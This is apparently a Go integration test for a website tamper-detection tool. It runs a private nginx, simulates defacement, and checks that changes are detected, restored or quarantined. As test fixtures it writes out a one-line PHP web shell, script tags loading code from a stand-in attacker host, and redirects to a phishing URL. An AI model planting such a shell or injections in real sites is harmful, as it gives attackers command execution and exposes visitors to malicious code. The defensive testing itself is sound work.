package tamper

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/kyojin/kyojin/internal/testdaemon"
)

// nginx is a private nginx instance (internal/testdaemon) serving one web
// root, with SSI on (a real dynamic page) and an included file of
// server-level redirects.
type nginx struct {
	*testdaemon.Nginx
	redirects string // included in the server block
}

func startNginx(t *testing.T, root string, port int) *nginx {
	t.Helper()
	n := &nginx{redirects: filepath.Join(t.TempDir(), "redirects.conf")}
	os.WriteFile(n.redirects, nil, 0o644)
	n.Nginx = testdaemon.StartNginx(t, port, fmt.Sprintf(`  access_log off;
  types { text/html html shtml; application/javascript js; text/css css; }
  server {
    listen 127.0.0.1:%d;
    root %s;
    ssi on;
    include %s;
  }`, port, root, n.redirects), "/")
	return n
}

func (n *nginx) get(t *testing.T, path string) (int, string) {
	t.Helper()
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := c.Get(n.Base + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// reload makes nginx re-read its configuration (SIGHUP to the master) and
// waits until path answers with status.
func (n *nginx) reload(t *testing.T, path string, status int) {
	t.Helper()
	if err := n.Cmd.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if got, _ := n.get(t, path); got == status {
			return
		}
	}
	t.Fatalf("nginx reload: %s never answered %d: %s", path, status, n.Log())
}

const newsPage = `<!doctype html><html><head><title>お知らせ</title>
<!--# config timefmt="%Y-%m-%dT%H:%M:%S+09:00" -->
<meta name="csrf-token" content="<!--# echo var="request_id" -->"></head>
<body><p>更新 <!--# echo var="date_local" --></p>
<form method="post"><input type="hidden" name="csrf_token" value="<!--# echo var="request_id" -->"></form>
<ul><li>防災訓練のお知らせ</li></ul></body></html>`

// nginxSite is a fixture served by a private nginx, with the site's URLs
// configured: a static page, an SSI page (dynamic), and a page a
// server-level redirect will hijack.
func nginxSite(t *testing.T, extra string) (*fixture, *nginx) {
	testdaemon.LookBin(t, "nginx") // skip before building the fixture
	port := testdaemon.FreeTCPPort(t)
	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	f := newFixture(t, fmt.Sprintf(`        urls:
          - url: %[1]s/index.html
          - url: %[1]s/news.shtml
            mode: dynamic
          - url: %[1]s/campaign.html
        interval: 1h
%[2]s`, base, extra))
	f.write(t, "news.shtml", newsPage)
	f.write(t, "campaign.html", "<p>キャンペーン</p>")
	return f, startNginx(t, f.root, port)
}

func startWatch(t *testing.T, m *Monitor) {
	t.Helper()
	ready := make(chan struct{})
	m.onReady = func() { close(ready) }
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- m.Watch(ctx) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("watch: %v", err)
		}
	})
	select {
	case <-ready:
	case err := <-done:
		t.Fatalf("watch ended: %v", err)
	case <-time.After(15 * time.Second):
		t.Fatal("watch did not start")
	}
}

// TestNginxDetection alters a site served by real nginx the three ways
// seed 003 describes — a changed file, an injected script, a redirect —
// and expects each caught by the file watch and by the external fetch.
func TestNginxDetection(t *testing.T) {
	f, ngx := nginxSite(t, "")
	rec := newRecorder()
	m := f.baselineAndOpen(t, rec)
	ctx := context.Background()
	for _, p := range m.Manifest().Pages {
		if p.Status != 200 || p.SHA256 == "" {
			t.Fatalf("baseline page %+v", p)
		}
	}
	// The SSI page differs on every request; normalised, it does not.
	_, a := ngx.get(t, "/news.shtml")
	_, b := ngx.get(t, "/news.shtml")
	if a == b || string(Normalize([]byte(a), nil)) != string(Normalize([]byte(b), nil)) {
		t.Fatalf("dynamic page: raw equal %v; normalised:\n%s\n%s", a == b, Normalize([]byte(a), nil), Normalize([]byte(b), nil))
	}
	startWatch(t, m)
	if got := rec.all(); len(got) != 0 {
		t.Fatalf("clean site raised %+v", got)
	}

	// 1. A changed file.
	start := time.Now()
	f.write(t, "about/index.html", "<html><body>改ざんされました</body></html>")
	if rec.waitFor(2*time.Second, KindModified, "about/index.html") == nil {
		t.Errorf("watch: modified file not raised within 2 s: %+v", rec.all())
	}
	t.Logf("watch latency: %v", time.Since(start))

	// 2. An injected script (and inline loader) in the home page.
	f.write(t, "index.html", strings.Replace(siteFiles["index.html"], "</body>",
		`<script src="https://evil.example.net/x.js"></script><script>document.title="x"</script></body>`, 1))
	if rec.waitFor(2*time.Second, KindModified, "www/index.html") == nil {
		t.Errorf("watch: injected script not raised: %+v", rec.all())
	}
	// 3. A meta refresh in the dynamic page.
	f.write(t, "news.shtml", strings.Replace(newsPage, "</head>", `<meta http-equiv="refresh" content="0;url=https://evil.example.net/phish">`+"</head>", 1))
	if rec.waitFor(2*time.Second, KindModified, "news.shtml") == nil {
		t.Errorf("watch: meta refresh not raised: %+v", rec.all())
	}
	// 4. A server-level redirect (outside the web root: only the fetch sees it).
	os.WriteFile(ngx.redirects, []byte("location = /campaign.html { return 302 https://evil.example.net/campaign; }\n"), 0o644)
	ngx.reload(t, "/campaign.html", 302)

	got := m.FetchAll(ctx)
	want := []string{
		"injected-script /index.html", "inline-script /index.html", "page-modified /campaign.html", "page-modified /index.html",
		"page-modified /news.shtml", "redirect /campaign.html", "redirect /news.shtml",
	}
	var kinds []string
	for _, c := range got {
		kinds = append(kinds, c.Kind+" "+c.URL[strings.LastIndex(c.URL, "/"):])
	}
	slices.Sort(kinds)
	if !slices.Equal(kinds, want) {
		t.Fatalf("fetch: %q\nwant %q", kinds, want)
	}
	for _, c := range got {
		if c.Kind == KindScript && !slices.Equal(c.Targets, []string{"https://evil.example.net/x.js"}) ||
			c.Kind == KindRedirect && strings.HasSuffix(c.URL, "campaign.html") && !slices.Equal(c.Targets, []string{"https://evil.example.net/campaign"}) ||
			c.Kind == KindRedirect && c.Severity != SevCritical {
			t.Errorf("fetch change %+v", c)
		}
	}
	// Standing changes are raised once.
	if again := m.FetchAll(ctx); len(again) != 0 {
		t.Errorf("fetch re-raised %d changes", len(again))
	}
}

// TestNginxRestore: with restore on, an injected script is written back
// from the baseline and nginx serves the original again; an added web
// shell is moved to quarantine and is no longer served.
func TestNginxRestore(t *testing.T) {
	f, ngx := nginxSite(t, "        restore: true\n        quarantine_added: true\n")
	rec := newRecorder()
	m := f.baselineAndOpen(t, rec)
	startWatch(t, m)
	_, orig := ngx.get(t, "/index.html")

	f.write(t, "index.html", strings.Replace(siteFiles["index.html"], "</head>", `<script src="https://evil.example.net/x.js"></script></head>`, 1))
	c := rec.waitFor(2*time.Second, KindModified, "www/index.html")
	if c == nil || c.Restored != ActRestored {
		t.Fatalf("not restored: %+v", rec.all())
	}
	if _, body := ngx.get(t, "/index.html"); body != orig {
		t.Errorf("nginx serves %q after restore, want the original", body)
	}
	if got := m.FetchAll(context.Background()); len(got) != 0 {
		t.Errorf("fetch after restore: %+v", got)
	}

	f.write(t, "shell.php", "<?php system($_GET['c']);")
	c = rec.waitFor(2*time.Second, KindAdded, "shell.php")
	if c == nil || c.Severity != SevCritical || c.Restored != ActQuarantined {
		t.Fatalf("web shell: %+v", rec.all())
	}
	if st, _ := ngx.get(t, "/shell.php"); st != 404 {
		t.Errorf("web shell still served: %d", st)
	}
	if q, _ := filepath.Glob(filepath.Join(f.baseline, "quarantine", "*-shell.php")); len(q) != 1 {
		t.Errorf("web shell not kept as evidence: %v", q)
	}
}
